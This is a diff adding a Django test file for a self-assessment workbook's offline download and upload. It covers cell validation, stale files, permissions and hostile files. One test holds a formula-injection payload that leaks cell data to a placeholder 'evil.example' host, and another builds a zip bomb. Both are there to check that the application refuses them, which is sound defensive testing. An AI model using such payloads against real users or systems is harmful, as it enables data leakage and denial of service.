@@ -1,0 +1,352 @@
+"""The offline round trip of the self-assessment: the form downloaded as a pre-filled workbook (dropdowns, targets,
+hidden keys and versions), filled without the portal and uploaded: the form's own checks per cell, nothing saved
+unless every cell is valid, a stale file refused, hostile files refused, and only those who fill the form in may
+upload it."""
+
+import io
+import zipfile
+
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from measures.choices import IndicatorKind, Status
+from measures.models import plain_number
+from reform_portal.choices import ChangeSource
+from reporting.assessments import services
+from reporting.assessments.choices import SelfRating
+from reporting.assessments.models import AssessmentIndicator, AssessmentItem, AssessmentItemEvent
+from reporting.assessments.services.values import REQUIRED, answer_role, applicable_ids
+from tests.hostile_files import Repeated, sheet, xlsx_with_sheet
+
+pytestmark = pytest.mark.django_db
+XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+RATING, STATUS, PERCENT, WHAT_DONE, VALUE, TARGET, KEY, VERSION = "D", "E", "F", "G", "H", "I", "L", "M"
+
+
+def download(client, user, assessment):
+    client.force_login(user)
+    response = client.get(reverse("reporting:assessments:workbook", args=[assessment.pk]))
+    assert response.status_code == 200, response.status_code
+    assert response["Content-Type"] == XLSX
+    return load_workbook(io.BytesIO(response.content))
+
+
+def upload(client, user, assessment, wb):
+    buffer = io.BytesIO()
+    wb.save(buffer)
+    return upload_bytes(client, user, assessment, buffer.getvalue())
+
+
+def upload_bytes(client, user, assessment, data, name="自评表.xlsx"):
+    client.force_login(user)
+    return client.post(
+        reverse("reporting:assessments:workbook_upload", args=[assessment.pk]),
+        {"workbook": SimpleUploadedFile(name, data, content_type=XLSX)},
+    )
+
+
+def rows_by_key(ws) -> dict[str, int]:
+    """{"item:12": row number, "indicator:7": …} from the hidden key column."""
+    return {ws[f"{KEY}{r}"].value: r for r in range(4, ws.max_row + 1) if ws[f"{KEY}{r}"].value}
+
+
+def snapshot(assessment):
+    items = list(
+        AssessmentItem.objects.filter(assessment=assessment)
+        .order_by("pk")
+        .values_list("self_rating", "claimed_status", "claimed_percent", "what_done", "version", "carried_over")
+    )
+    answers = list(
+        AssessmentIndicator.objects.filter(assessment=assessment)
+        .order_by("pk")
+        .values_list("claimed_value", "claimed_text", "version", "carried_over")
+    )
+    return items, answers
+
+
+def asked_answers(assessment):
+    applicable = applicable_ids(assessment.enterprise)
+    return [
+        a
+        for a in assessment.indicator_answers.select_related("indicator")
+        if answer_role(a.indicator, applicable) == REQUIRED
+    ]
+
+
+FILLED = {
+    IndicatorKind.BOOLEAN: "是",
+    IndicatorKind.COUNT: 3,
+    IndicatorKind.SHARE: 75,
+    IndicatorKind.DATE: "2024-03-01",
+}
+
+
+def fill_all(ws, assessment):
+    """Every measure: 较好, 推进中, 60%, a line of work; every asked indicator: a value of its kind (as typed in a
+    spreadsheet: a number, 是, a date's text)."""
+    rows = rows_by_key(ws)
+    for item in assessment.items.all():
+        r = rows[f"item:{item.pk}"]
+        ws[f"{RATING}{r}"], ws[f"{STATUS}{r}"] = "较好", "推进中"
+        ws[f"{PERCENT}{r}"], ws[f"{WHAT_DONE}{r}"] = 60, f"{item.pk} 号措施：开展了职工培训"
+    for answer in asked_answers(assessment):
+        ws[f"{VALUE}{rows[f'indicator:{answer.pk}']}"] = FILLED.get(answer.indicator.kind, "《职工培训管理办法》")
+
+
+# ---- the download ------------------------------------------------------------------------------------------------
+
+
+def test_the_download_is_the_pre_filled_form_with_dropdowns_targets_and_hidden_keys(client, draft, users):
+    # given a draft pre-filled from the current progress (docs/assessment-form.md)
+    user = users["enterprise-yn"]
+    item = draft.items.select_related("measure").order_by("pk").first()
+    services.item_save(item=item, by=user, self_rating="good", what_done="建了制度", status="in_progress", percent=40)
+
+    # when the enterprise downloads it
+    wb = download(client, user, draft)
+    ws = wb.worksheets[0]
+    rows = rows_by_key(ws)
+
+    # then the form's key and version are in the first row, every measure and asked indicator has a row with its key
+    # and version, pre-filled with the current answer
+    assert ws[f"{KEY}1"].value == f"assessment:{draft.pk}" and ws[f"{VERSION}1"].value == draft.version
+    item.refresh_from_db()
+    r = rows[f"item:{item.pk}"]
+    assert (ws[f"{RATING}{r}"].value, ws[f"{STATUS}{r}"].value, ws[f"{PERCENT}{r}"].value) == ("好", "推进中", 40)
+    assert ws[f"{WHAT_DONE}{r}"].value == "建了制度" and ws[f"{VERSION}{r}"].value == item.version
+    assert {f"item:{i.pk}" for i in draft.items.all()} <= set(rows)
+    for answer in asked_answers(draft):
+        r = rows[f"indicator:{answer.pk}"]
+        target = answer.indicator
+        expected = f"{target.get_comparison_display()} {plain_number(target.target)}{target.display_unit}"
+        assert ws[f"{TARGET}{r}"].value == target.target_display == expected.strip() or target.comparison == "true"
+        assert ws[f"{VERSION}{r}"].value == answer.version
+    # dropdowns for the ratings, the statuses and 是/否; the keys hidden; the sheet protected, answers unlocked
+    lists = {dv.formula1 for dv in ws.data_validations.dataValidation if dv.type == "list"}
+    assert '"好,较好,一般,差"' in lists and '"未启动,推进中,已完成,常态化推进"' in lists
+    booleans = [a for a in asked_answers(draft) if a.indicator.kind == IndicatorKind.BOOLEAN]
+    if booleans:
+        assert '"是,否"' in lists
+    assert ws.column_dimensions[KEY].hidden and ws.column_dimensions[VERSION].hidden
+    assert ws.protection.sheet
+    r = rows[f"item:{item.pk}"]
+    assert not ws[f"{RATING}{r}"].protection.locked and ws[f"B{r}"].protection.locked
+
+
+def test_a_formula_typed_as_an_answer_stays_text_both_ways(client, draft, users):
+    user = users["enterprise-yn"]
+    item = draft.items.order_by("pk").first()
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    services.item_save(item=item, by=user, self_rating="good", what_done=formula, status="in_progress", percent=10)
+
+    wb = download(client, user, draft)
+    ws = wb.worksheets[0]
+    cell = ws[f"{WHAT_DONE}{rows_by_key(ws)[f'item:{item.pk}']}"]
+    assert cell.data_type == "s" and cell.quotePrefix and cell.value == formula  # a text cell, not a formula
+
+    # uploaded back (with another answer changed), the text is kept as text
+    other = draft.items.order_by("pk")[1]
+    ws[f"{PERCENT}{rows_by_key(ws)[f'item:{other.pk}']}"] = 0
+    ws[f"{STATUS}{rows_by_key(ws)[f'item:{other.pk}']}"] = "未启动"
+    response = upload(client, user, draft, wb)
+    assert response.status_code in (200, 302)
+    item.refresh_from_db()
+    assert item.what_done == formula
+
+
+# ---- the upload ------------------------------------------------------------------------------------------------
+
+
+def test_a_filled_workbook_is_saved_and_the_form_is_complete(client, draft, users):
+    user = users["enterprise-yn"]
+    wb = download(client, user, draft)
+    fill_all(wb.worksheets[0], draft)
+
+    response = upload(client, user, draft, wb)
+
+    assert response.status_code == 302, response.content.decode()[:2000]
+    for item in draft.items.all():
+        assert (item.self_rating, item.claimed_status, item.claimed_percent) == (
+            SelfRating.FAIRLY_GOOD,
+            Status.IN_PROGRESS,
+            60,
+        )
+        assert item.what_done == f"{item.pk} 号措施：开展了职工培训" and not item.carried_over
+    for answer in asked_answers(draft):
+        answer.refresh_from_db()
+        kind = answer.indicator.kind
+        if kind == IndicatorKind.BOOLEAN:
+            assert answer.claimed_value == 1
+        elif kind in (IndicatorKind.COUNT, IndicatorKind.SHARE):
+            assert answer.claimed_value == FILLED[kind]
+        elif kind == IndicatorKind.DATE:
+            assert answer.claimed_text == "2024-03-01"
+    # complete, as the submission judges it; the history says who and from where
+    assert services.assessment_problems(assessment=draft) == []
+    event = AssessmentItemEvent.objects.filter(pgh_obj__assessment=draft).order_by("-pgh_id").first()
+    assert event.changed_by == user and event.source == ChangeSource.ASSESSMENT
+    services.assessment_submit(assessment=draft, by=user)
+
+
+def test_one_bad_cell_is_reported_at_its_cell_and_nothing_is_saved(client, draft, users):
+    user = users["enterprise-yn"]
+    wb = download(client, user, draft)
+    ws = wb.worksheets[0]
+    fill_all(ws, draft)
+    bad = draft.items.select_related("measure").order_by("pk")[2]
+    r = rows_by_key(ws)[f"item:{bad.pk}"]
+    ws[f"{PERCENT}{r}"] = 150
+    before = snapshot(draft)
+
+    response = upload(client, user, draft, wb)
+
+    assert response.status_code == 400
+    problems = response.context["workbook_problems"]
+    assert [(p.row, p.letter) for p in problems] == [(r, PERCENT)]
+    assert str(problems[0]) == f"第 {r} 行 F 列：完成百分比应在 0 到 100 之间。"
+    assert f"第 {r} 行 F 列：完成百分比应在 0 到 100 之间。" in response.content.decode()
+    assert snapshot(draft) == before  # not one of the other (valid) rows was saved
+
+
+def test_the_cells_are_judged_by_the_forms_rules(client, draft, users):
+    # the same messages as the page's autosave (services.item_save, indicator_save): status and percent must agree,
+    # a rating not in the list, a share over 100, a percent that is not a whole number
+    user = users["enterprise-yn"]
+    wb = download(client, user, draft)
+    ws = wb.worksheets[0]
+    rows = rows_by_key(ws)
+    items = list(draft.items.order_by("pk"))
+    ws[f"{STATUS}{rows[f'item:{items[0].pk}']}"], ws[f"{PERCENT}{rows[f'item:{items[0].pk}']}"] = "未启动", 50
+    ws[f"{RATING}{rows[f'item:{items[1].pk}']}"] = "优秀"
+    ws[f"{PERCENT}{rows[f'item:{items[2].pk}']}"] = 60.5
+    shares = [a for a in asked_answers(draft) if a.indicator.kind == IndicatorKind.SHARE]
+    ws[f"{VALUE}{rows[f'indicator:{shares[0].pk}']}"] = 130
+    expected_errors = {}
+    for item, (status, percent, rating) in zip(
+        items[:3], (("not_started", "50", ""), ("", "", "优秀"), ("", "60.5", "")), strict=True
+    ):
+        try:
+            services.item_save(item=item, by=user, self_rating=rating, what_done="", status=status, percent=percent)
+        except Exception as exc:  # noqa: BLE001
+            expected_errors[rows[f"item:{item.pk}"]] = exc.message_dict
+    before = snapshot(draft)
+
+    response = upload(client, user, draft, wb)
+
+    assert response.status_code == 400
+    found = {(p.row, p.letter): p.message for p in response.context["workbook_problems"]}
+    letters = {"status": STATUS, "percent": PERCENT, "self_rating": RATING}
+    for row, errors in expected_errors.items():
+        for field, messages in errors.items():
+            assert found[(row, letters[field])] == messages[0]
+    assert "比例应在 0 到 100 之间" in found[(rows[f"indicator:{shares[0].pk}"], VALUE)]
+    assert snapshot(draft) == before
+
+
+def test_a_file_older_than_an_edit_on_the_page_is_refused_and_nothing_saved(client, draft, users):
+    user = users["enterprise-yn"]
+    wb = download(client, user, draft)
+    ws = wb.worksheets[0]
+    fill_all(ws, draft)
+    # meanwhile the same answer is changed on the page
+    item = draft.items.select_related("measure").order_by("pk").first()
+    services.item_save(item=item, by=user, self_rating="poor", what_done="网页上改的", status="in_progress", percent=5)
+    before = snapshot(draft)
+
+    response = upload(client, user, draft, wb)
+
+    assert response.status_code == 409
+    assert response.context["workbook_stale"]
+    stale = [p for p in response.context["workbook_problems"] if "被修改" in p.message]
+    assert [p.row for p in stale] == [rows_by_key(ws)[f"item:{item.pk}"]]
+    assert snapshot(draft) == before
+    item.refresh_from_db()
+    assert item.what_done == "网页上改的"
+
+
+def test_a_file_from_before_a_return_is_refused_as_stale(client, submitted, users):
+    user = users["enterprise-yn"]
+    officer = users["officer-yn"]
+    item = submitted.items.order_by("pk").first()
+    services.review_item_save(item=item, by=officer, verified_status="", verified_percent="", comment="请补充")
+    services.assessment_return(assessment=submitted, by=officer, comment="请补充")
+    submitted.refresh_from_db()
+    wb = download(client, user, submitted)
+    ws = wb.worksheets[0]
+    ws[f"{VERSION}1"] = submitted.version - 1  # as a file downloaded before the return
+
+    response = upload(client, user, submitted, wb)
+
+    assert response.status_code == 409 and "未保存任何内容" in response.content.decode()
+
+
+def test_a_partly_filled_file_is_saved_and_the_form_shows_what_is_missing(client, draft, users):
+    user = users["enterprise-yn"]
+    wb = download(client, user, draft)
+    ws = wb.worksheets[0]
+    item = draft.items.select_related("measure").order_by("pk").first()
+    r = rows_by_key(ws)[f"item:{item.pk}"]
+    ws[f"{RATING}{r}"], ws[f"{STATUS}{r}"], ws[f"{PERCENT}{r}"] = "一般", "推进中", 30
+
+    response = upload(client, user, draft, wb)
+
+    assert response.status_code == 200
+    item.refresh_from_db()
+    assert (item.self_rating, item.claimed_status, item.claimed_percent) == ("average", "in_progress", 30)
+    # the completeness check, as after a refused submission: the same problems, listed and marked
+    assert [p.message for p in response.context["problems"]] == [
+        p.message for p in services.assessment_problems(assessment=draft)
+    ]
+    assert 'id="problems"' in response.content.decode()
+
+
+def test_a_zip_bomb_is_refused_by_the_workbook_reader(client, draft, users):
+    shared = Repeated(prefix=b'<sst xmlns="x"><si><t>', chunk=b"A" * 1024 * 1024, count=300, suffix=b"</t></si></sst>")
+    bomb = xlsx_with_sheet(
+        sheet('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', "A1"), **{"xl/sharedStrings.xml": shared}
+    )
+    assert len(bomb) < 1024 * 1024
+    before = snapshot(draft)
+
+    response = upload_bytes(client, users["enterprise-yn"], draft, bomb)
+
+    assert response.status_code == 400
+    assert response.context["workbook_problems"] and snapshot(draft) == before
+
+
+def test_a_file_that_is_not_this_forms_download_is_refused(client, draft, users):
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr("a.txt", "x")
+    response = upload_bytes(client, users["enterprise-yn"], draft, buffer.getvalue())
+    assert response.status_code == 400
+    wb = download(client, users["enterprise-yn"], draft)
+    wb.worksheets[0][f"{KEY}1"] = f"assessment:{draft.pk + 1000}"
+    response = upload(client, users["enterprise-yn"], draft, wb)
+    assert response.status_code == 400 and "另一份自评表" in response.content.decode()
+
+
+# ---- who -------------------------------------------------------------------------------------------------------
+
+
+def test_only_those_who_fill_the_form_in_upload_it_and_others_never_reach_it(client, draft, users):
+    wb = download(client, users["enterprise-yn"], draft)
+    fill_all(wb.worksheets[0], draft)
+    before = snapshot(draft)
+    # another province's enterprise: neither the download nor the upload exists for it
+    client.force_login(users["enterprise-sx"])
+    assert client.get(reverse("reporting:assessments:workbook", args=[draft.pk])).status_code == 404
+    assert upload(client, users["enterprise-sx"], draft, wb).status_code == 404
+    # the officer in charge reads it (downloads) but does not fill it in (access.AssessmentPolicy.EDIT)
+    download(client, users["officer-yn"], draft)
+    assert upload(client, users["officer-yn"], draft, wb).status_code == 403
+    assert snapshot(draft) == before
+
+
+def test_a_submitted_form_takes_no_upload(client, submitted, users):
+    wb = download(client, users["enterprise-yn"], submitted)
+    before = snapshot(submitted)
+    response = upload(client, users["enterprise-yn"], submitted, wb)
+    assert response.status_code == 302 and snapshot(submitted) == before
